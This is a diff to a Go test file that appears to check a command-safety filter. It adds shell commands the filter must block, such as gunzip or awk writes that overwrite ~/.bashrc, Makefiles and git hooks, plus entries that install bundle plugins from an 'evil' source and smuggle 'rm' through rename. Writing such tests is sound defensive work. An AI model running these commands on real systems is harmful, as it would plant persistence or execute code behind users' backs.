@@ -71,6 +71,11 @@ func TestCommandAttack48Writers(t *testing.T) {
 		`zstd -d -f Makefile.zst`,
 		`bunzip2 .git/hooks/post-checkout.bz2`,
 		`gunzip -S .x ~/.bashrc.x`,
+		`gunzip -S x ~/.bashrcx`,
+		`gzip -d --suffix=x Makefilex`,
+		`gunzip -r ~`,
+		`gunzip -N x.gz`,
+		`unzip -o: a.zip`,
 	}
 	fine := []string{`uniq -c a b`, `uniq --skip-fields 1 a b`, `tar -xzf a.tar.gz -C out`, `tar -cf a.tar src`, `tar xf a.tar`,
 		`unzip a.zip -d out`, `gunzip a.gz`, `gzip -dc .git/hooks/pre-commit.gz`, `gzip ~/.bashrc`, `xz -d a.xz`, `zstd -d a.zst`}
@@ -131,12 +136,12 @@ func TestCommandAttack48Runners(t *testing.T) {
 		`rename 'system("rm x")' f`, `rustup toolchain link evil /tmp/x`, `rustup default /tmp/x`, `rustup override set /tmp/x`,
 		`poetry env use ./python`, `bundle plugin install x --source https://evil`, `bundle binstubs rake --shebang=/tmp/x`,
 		`bundle install --binstubs ~/.ssh`, `awk '{print > ".git/hooks/pre-commit"}' x`, `awk '{print >> "Makefile"}' x`,
-		`awk '{printf "%s\n", $1 > "f"}' x`, `patch Makefile d.diff`, `patch -d ~ -p0 -i d.diff`, `cpio -pd ~`, `cpio -i -D ~`,
+		`awk '{printf "%s\n", $1 > "f"}' x`, `awk '{print > "/dev/stderr"; print > ".bashrc"}' x`, `patch Makefile d.diff`, `patch -d ~ -p0 -i d.diff`, `cpio -pd ~`, `cpio -i -D ~`,
 		`pax -rw src ~`, `gcc -aux-info ~/.bashrc -c a.c`, `git mv x.txt Makefile`, `git mv x .husky/pre-commit`,
 	}
 	fine := []string{`split -l 10 f out/`, `sort -u x`, `man ls`, `socat - TCP:h:1`, `nc -zv h 22`, `tmux ls`, `screen -ls`,
 		`rustup default stable`, `poetry env use 3.12`, `bundle install`, `awk '$1 > 5 {print}' x`, `awk '{if ($1 > 5) print $2}' x`,
-		`awk '{print ($1 > 5)}' x`, `patch -p1 -i d.diff`, `patch src/a.c d.diff`, `cpio -pdm out`, `pax -rw src out`,
+		`awk '{print ($1 > 5)}' x`, `awk '{print "e" > "/dev/stderr"}' x`, `patch -p1 -i d.diff`, `patch src/a.c d.diff`, `cpio -pdm out`, `pax -rw src out`,
 		`gcc -c a.c -o a.o`, `git mv x.txt docs/y.txt`}
 	checkCommands(t, allow, bypass, fine, bypass, fine)
 }
